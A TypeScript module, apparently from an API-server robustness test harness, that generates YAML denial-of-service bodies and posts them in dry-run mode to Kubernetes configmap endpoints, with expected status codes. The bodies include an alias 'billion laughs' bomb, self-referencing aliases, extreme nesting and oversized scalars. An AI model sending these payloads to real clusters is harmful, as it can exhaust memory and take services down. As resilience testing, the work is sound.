import {family} from '../attack.js';
import {bodyAttack, fill, fillWith, largeBody} from './body-attack.js';

const head = 'apiVersion: v1\nkind: ConfigMap\nmetadata: {name: bomb}\n';

/** Each anchor holds the one before it nine times: what they stand for grows by that with each line. */
function laughs(levels: number, merge = ''): string {
  const lines = ['l0: &l0 {lol: lol}'];
  for (let level = 1; level < levels; level++) {
    const nine = Array(9)
      .fill(`*l${level - 1}`)
      .join(', ');
    lines.push(merge === '' ? `l${level}: &l${level} [${nine}]` : `l${level}: &l${level} {${merge}: [${nine}]}`);
  }
  return `${head}${lines.join('\n')}\ndata: {a: *l${levels - 1}}\n`;
}

const texts: Readonly<Record<string, () => string | Buffer>> = {
  'alias-bomb': () => laughs(12),
  'alias-bomb-of-merges': () => laughs(9, '<<'),
  'alias-of-large': () => `${head}x: &x [${fillWith(() => '1', ',', 100_000)}]\ny: [${fillWith(() => '*x', ', ', 400_000)}]\n`,
  'alias-of-text': () => `${head}x: &x ${'v'.repeat(500_000)}\ndata:\n${fillWith((number) => `  k${number}: *x`, '\n', 300_000)}\n`,
  'alias-of-itself': () => `${head}x: &x {y: *x}\n`,
  'alias-of-itself-in-list': () => `${head}data: &x\n  a: [*x, *x, *x]\n`,
  'merges-of-large': () =>
    `${head}x: &x {${fillWith((number) => `k${number}: v`, ', ', 300_000)}}\ny:\n${fillWith(() => '- {<<: *x}', '\n', 200_000)}\n`,
  'many-anchors': () => `${head}x: [${fillWith((number) => `&a${number} 1`, ', ')}]\n`,
  'missing-aliases': () => `${head}x: [${fillWith((number) => `*a${number}`, ', ')}]\n`,
  'depth-of-flow-lists': () => `${head}data: ${'['.repeat(largeBody)}`,
  'depth-of-flow-maps': () => `${head}data: ${'{a: '.repeat(largeBody / 4)}`,
  'depth-of-lists': () => `${head}data:\n${fill('- ')}a\n`,
  'depth-of-maps': () => `${head}data:\n${Array.from({length: 2300}, (_, depth) => `${' '.repeat(depth + 1)}a:`).join('\n')}\n`,
  'complex-keys': () => `${fill('? ')}a\n`,
  documents: () => fill('---\n'),
  'documents-with-objects': () => fill(`---\n${head}`),
  directives: () => `${fill('%TAG !a! tag:a,2000:\n')}---\n${head}`,
  tags: () => `${head}data:\n${fillWith((number) => `  k${number}: !!str a`, '\n')}\n`,
  'unknown-tags': () => `${head}data:\n${fillWith((number) => `  k${number}: !t${number} a`, '\n')}\n`,
  binary: () => `${head}data: {a: !!binary "${'A'.repeat(largeBody)}"}\n`,
  'long-plain': () => `${head}data:\n  a: ${fill('word ')}\n`,
  'long-plain-lines': () => `${head}data:\n  a: w\n${fill('    word\n')}`,
  folded: () => `${head}data:\n  a: >\n${fill('    word\n\n')}`,
  'folded-blank-lines': () => `${head}data:\n  a: >\n${fill('\n')}`,
  'double-quoted': () => `${head}data:\n  a: "${fill('\\x41')}"\n`,
  'quoted-over-lines': () => `${head}data:\n  a: "${fill('\\\n')}"\n`,
  comments: () => `${head}${fill('# \n')}`,
  'long-comment': () => `${head}#${'#'.repeat(largeBody)}\n`,
  blanks: () => `${head}${fill(' \n')}`,
  tabs: () => `${head}${fill('\t')}`,
  'long-number': () => `${head}data: {a: ${'9'.repeat(largeBody)}}\n`,
  'long-hexadecimal': () => `${head}data: {a: 0x${'f'.repeat(largeBody)}}\n`,
  'long-underscores': () => `${head}data: {a: 1${'_'.repeat(largeBody)}}\n`,
  sexagesimal: () => `${head}data: {a: 1${fill(':59')}}\n`,
  'nearly-times': () => `${head}data: [${fillWith(() => '2001-12-14t21:59:43.10-05:0', ', ')}]\n`,
  'nearly-number': () => `${head}data: {a: ${'1'.repeat(largeBody)}x}\n`,
  'duplicate-keys': () => `${head}data:\n${fill('  a: b\n')}`,
  'many-keys': () => `${head}data:\n${fillWith((number) => `  k${number}: v`, '\n')}\n`,
  'utf-16': () => Buffer.from(`\ufeff${head}${fill('#\n', 1_000_000)}`, 'utf16le'),
};

export const yamlBodies = family(
  'yaml',
  [
    ...Object.entries(texts).map(([name, body]) =>
      bodyAttack({
        name,
        body,
        type: 'application/yaml',
        path: (attacker) => `${attacker.path('configmaps')}?dryRun=All`,
        outcomes: [201, 400, 413, 415, 422],
      }),
    ),
    ...(['alias-bomb', 'alias-bomb-of-merges', 'depth-of-flow-lists', 'many-keys'] as const).map((name) =>
      bodyAttack({
        name: `apply-${name}`,
        body: texts[name]!,
        method: 'PATCH',
        type: 'application/apply-patch+yaml',
        path: (attacker) => `${attacker.path('configmaps')}/bomb?fieldManager=attacker&dryRun=All`,
        outcomes: [200, 201, 400, 413, 422],
      }),
    ),
  ],
  {storeless: true},
);
